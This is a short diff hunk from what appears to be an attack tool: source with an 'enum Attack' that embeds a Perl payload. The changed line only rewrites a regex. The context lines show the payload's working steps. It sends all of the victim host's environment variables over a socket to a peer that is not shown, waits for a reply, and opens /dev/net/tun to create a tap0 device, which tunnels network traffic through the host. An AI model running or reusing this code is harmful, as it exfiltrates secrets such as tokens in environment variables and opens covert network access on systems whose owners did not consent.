@@ -50,7 +50,7 @@ enum Attack {
             my $said = join '', map { "$_=$ENV{$_}\\0" } keys %ENV;
             syswrite $s, 'A' . pack('x3V', 0) . 'E' . pack('x3V', length $said) . $said . 'L' . pack('x3V', 0);
             my $answer = '';
-            sysread $s, $answer, 65536, length $answer or die $answer until $answer =~ /X\\0\\0\\0\\0\\1\\0\\0/;
+            sysread $s, $answer, 65536, length $answer or die $answer until $answer =~ /X\\0{4}\\x01\\0{2}/;
             open my $tap, '+<', '/dev/net/tun' or die $!;
             my $which = pack 'a16 s x22', 'tap0', 0x1002;
             ioctl $tap, 0x400454ca, $which or die $!;
